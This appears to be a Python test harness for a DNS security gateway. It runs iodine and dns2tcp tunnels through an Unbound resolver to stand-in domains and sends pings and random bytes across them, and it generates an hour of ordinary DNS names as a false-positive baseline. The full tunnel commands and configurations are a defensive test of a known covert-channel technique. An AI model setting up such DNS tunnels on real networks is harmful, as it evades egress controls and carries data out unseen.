"""Tunnels through names, as attackers run them: iodine and dns2tcp from Debian, and names that nobody should take for one."""

import contextlib
import os
import random
import signal
import socket
import string
import subprocess
import time

from dnspeers import Unbound
from dnswire import Message
from net import RESOLVER, UNBOUND, Wiretap, until

IODINE_NET = "10.199.0.1"


class Tunnel:
    """A server outside, behind unbound, and a client in the pod. What came out at its far end is in `arrived`."""

    def __init__(self, world, directory):
        self.world, self.directory = world, str(directory)
        self.processes = []
        self.log = os.path.join(self.directory, "tunnel.log")

    def start(self, role, words):
        with open(self.log, "ab") as log:
            process = self.world.start(role, words, stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True)
        self.processes.append(process)
        return process

    def said(self):
        with open(self.log, errors="replace") as file:
            return file.read()

    def close(self):
        for process in reversed(self.processes):
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()


class Iodine(Tunnel):
    """IP over DNS. `kind` is the type of its questions (NULL, TXT, CNAME, MX, SRV, A …) and `codec` how it writes upstream."""

    suffix = "tunnel.example"

    def __init__(self, world, directory, kind="NULL", codec="Base32"):
        super().__init__(world, directory)
        self.start("outside", ["iodined", "-f", "-c", "-P", "secret", "-l", "127.0.0.1", "-p", str(Unbound.IODINE),
                               IODINE_NET + "/27", self.suffix])
        until(lambda: "Listening to dns" in self.said(), what="iodined")
        # Without raw mode: that is UDP past all resolvers, which the gateway's packet rules stop anyway.
        self.start("pods", ["iodine", "-f", "-r", "-P", "secret", "-T", kind, "-O", codec, "-I", "1", RESOLVER, self.suffix])

    def is_up(self):
        return "Connection setup complete" in self.said()

    def ping(self, count=1, size=56, pause=0.2):
        """How many of so many pings came back through the tunnel."""
        done = self.world.run("pods", f"ping -c{count} -i{pause} -s{size} -W1 {IODINE_NET}")
        return done.stdout.count("bytes from")


class DNS2TCP(Tunnel):
    """TCP over DNS, to an echo outside. `kind` is TXT or KEY.

    Its base64 is in the letters of the name, so a resolver that draws letters (0x20) breaks it before it begins. What it
    asks is then recorded outside, and asked again by the pod: `recorded`.
    """

    suffix = "socks.example"

    def __init__(self, world, directory, kind="TXT", role="pods", resolver=RESOLVER):
        super().__init__(world, directory)
        self.role = role
        with world.inside("outside"):
            self.echo = socket.create_server(("127.0.0.1", 7999))
        conf = os.path.join(self.directory, "dns2tcpd.conf")
        with open(conf, "w") as file:
            file.write(f"listen = 127.0.0.1\nport = {Unbound.DNS2TCP}\nkey = secret\n"
                       f"domain = {self.suffix}\nresources = echo:127.0.0.1:7999\n")
        self.start("outside", ["dns2tcpd", "-F", "-d", "1", "-f", conf])
        time.sleep(0.3)
        self.start(role, ["dns2tcpc", "-c", "-z", self.suffix, "-k", "secret", "-r", "echo", "-l", "7998", "-T", kind,
                          "-d", "1", resolver])

    @classmethod
    def recorded(cls, world, directory, kind, size):
        """(name, type) of each question with which so many bytes left, in order and letter for letter."""
        with Wiretap(world, "outside", "lo") as tap, cls(world, directory, kind, "outside", UNBOUND) as tunnel:
            assert tunnel.send(size) == size, tunnel.said()
        asked = {}
        for _, _, target, _, port, payload in tap.packets():
            if (target, port) == (UNBOUND, 53):
                message = Message(payload)
                asked[message.question] = message.kind
        return list(asked.items())

    def send(self, size, seconds=5.0):
        """Sends random bytes through the tunnel for at most so long, and returns how many came out outside."""
        self.echo.settimeout(0.2)
        deadline = time.monotonic() + seconds
        with contextlib.ExitStack() as stack:
            sock, far, sent, arrived = None, None, 0, 0
            data = random.Random(1).randbytes(size)
            while time.monotonic() < deadline and arrived < size:
                if sock is None:
                    with contextlib.suppress(OSError):
                        sock = stack.enter_context(self.world.connect("127.0.0.1", 7998, self.role, "127.0.0.1", 0.2))
                        sock.setblocking(False)
                    time.sleep(0.05)
                    continue
                with contextlib.suppress(BlockingIOError, OSError):
                    sent += sock.send(data[sent:sent + 4096])
                if far is None:
                    with contextlib.suppress(TimeoutError):
                        far = stack.enter_context(self.echo.accept()[0])
                        far.settimeout(0.05)
                    continue
                with contextlib.suppress(TimeoutError, OSError):
                    arrived += len(far.recv(65536))
            return arrived

    def close(self):
        super().close()
        self.echo.close()


# Names of an hour


def ordinary_names(count=10_500, seed=20261125):
    """(name, type) as a busy node asks them in an hour: CDN, telemetry, mail and its blocklists, reverse names, Kubernetes."""
    rng = random.Random(seed)
    words = ["api", "cdn", "static", "img", "assets", "www", "mail", "login", "auth", "edge", "media", "video", "data", "events",
             "metrics", "config", "update", "push", "sync", "files", "docs", "shop", "search", "maps", "fonts", "ads"]
    letters, digits, hexes = string.ascii_lowercase, string.digits, "0123456789abcdef"

    def some(alphabet, size):
        return "".join(rng.choice(alphabet) for _ in range(size))

    def address():
        return [str(rng.randrange(1, 255)) for _ in range(4)]
    sites = [f"{rng.choice(words)}{some(letters, rng.randrange(3, 9))}.{rng.choice(['com', 'net', 'org', 'io', 'co.uk', 'fr'])}"
             for _ in range(900)]
    namespaces = [f"team-{some(letters, 4)}" for _ in range(12)]
    services = [f"{rng.choice(words)}-{some(letters, 5)}" for _ in range(80)]
    kinds = [
        (30, lambda: (f"{rng.choice(words)}.{rng.choice(sites)}", rng.choice(["A", "AAAA", "HTTPS"]))),
        (8, lambda: (f"d{some(letters + digits, 13)}.cloudfront.net", "A")),
        (6, lambda: (f"e{rng.randrange(99999)}.{rng.choice('abcdg')}.akamaiedge.net", rng.choice(["A", "AAAA"]))),
        (5, lambda: (f"r{rng.randrange(1, 9)}---sn-{some(letters + digits, 8)}.googlevideo.com", "A")),
        (4, lambda: (f"{some(letters, 6)}-{rng.choice(words)}.s3.eu-west-3.amazonaws.com", "A")),
        (3, lambda: (f"{some(hexes, 8)}.{some(letters, 3)}.trafficmanager.net", "A")),
        (4, lambda: (f"o{rng.randrange(10**6)}.ingest.sentry.io", "A")),
        (2, lambda: (f"{rng.choice(words)}-{rng.randrange(9)}.events.data.microsoft.com", "A")),
        (2, lambda: (f"browser-intake-{some(letters, 5)}.datadoghq.com", "A")),
        (8, lambda: (".".join(address()) + rng.choice([".zen.spamhaus.org", ".bl.spamcop.net", ".b.barracudacentral.org"]), "A")),
        (9, lambda: (".".join(address()) + ".in-addr.arpa", "PTR")),
        (2, lambda: (".".join(some(hexes, 32)) + ".ip6.arpa", "PTR")),
        (2, lambda: (f"{some(letters, 5)}{rng.randrange(99)}._domainkey.{rng.choice(sites)}", "TXT")),
        (2, lambda: (f"_dmarc.{rng.choice(sites)}", "TXT")),
        (3, lambda: (rng.choice(sites), rng.choice(["MX", "TXT", "NS", "SOA", "CAA"]))),
        (6, lambda: (f"{rng.choice(services)}.{rng.choice(namespaces)}.svc.cluster.local", rng.choice(["A", "AAAA"]))),
        (6, lambda: (f"{rng.choice(words)}.{rng.choice(sites)}.{rng.choice(namespaces)}.svc.cluster.local", "A")),
        (2, lambda: (f"_http._tcp.{rng.choice(services)}.{rng.choice(namespaces)}.svc.cluster.local", "SRV")),
        (1, lambda: (f"{some(hexes, 32)}.avqs.mcafee.com", "A")),
    ]
    makers = [maker for weight, maker in kinds for _ in range(weight)]
    names = {}
    while len(names) < count:
        name, kind = rng.choice(makers)()
        names.setdefault(name, kind)
    return list(names.items())
